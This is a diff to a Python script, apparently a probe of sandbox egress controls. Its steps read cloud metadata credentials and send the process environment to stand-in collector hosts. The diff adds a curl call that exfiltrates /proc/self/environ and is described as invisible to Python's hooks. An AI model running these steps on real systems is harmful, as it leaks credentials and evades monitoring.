@@ -13,6 +13,7 @@ DOCS = os.environ.get("DOCS_URL", "http://docs.example.test:8000")
 API = os.environ.get("API_URL", "http://api.example.test:8001")
 METADATA = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
 COLLECTOR = "https://collector.evil.example/collect"
+COLLECTOR_ADDRESS = os.environ.get("COLLECTOR_ADDRESS", "https://203.0.113.66/collect")
 
 
 def fetch_index() -> str:
@@ -38,8 +39,15 @@ def send_environment() -> str:
 
 
 def install_helper() -> str:
-    done = subprocess.run(["curl", "-fsS", f"{DOCS}/helper.sh"], capture_output=True, text=True, check=True)
+    done = subprocess.run(["sh", "-c", f"curl -fsS {DOCS}/helper.sh"], capture_output=True, text=True, check=True)
     return f"{len(done.stdout)} bytes"
+
+
+def send_by_curl() -> str:
+    """The same as `send_environment`, by a program that no hook of Python's sees."""
+    command = ["curl", "-sS", "-k", "--data-binary", "@/proc/self/environ", COLLECTOR_ADDRESS]
+    subprocess.run(command, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True, timeout=10, check=True)
+    return "the environment sent by curl"
 
 
 STEPS = {
@@ -47,7 +55,8 @@ STEPS = {
     "report": report_summary,
     "metadata": find_credentials,
     "environment": send_environment,
-    "curl": install_helper,
+    "shell": install_helper,
+    "curl": send_by_curl,
 }
 
 
@@ -56,7 +65,8 @@ def main() -> None:
         try:
             print(f"{name:12} ok: {STEPS[name]()}", flush=True)
         except (OSError, subprocess.SubprocessError) as error:  # what requests raises is an OSError too
-            print(f"{name:12} failed: {type(error).__name__}: {error}", flush=True)
+            why = str(getattr(error, "stderr", "") or error).strip()
+            print(f"{name:12} failed: {type(error).__name__}: {why}", flush=True)
 
 
 if __name__ == "__main__":
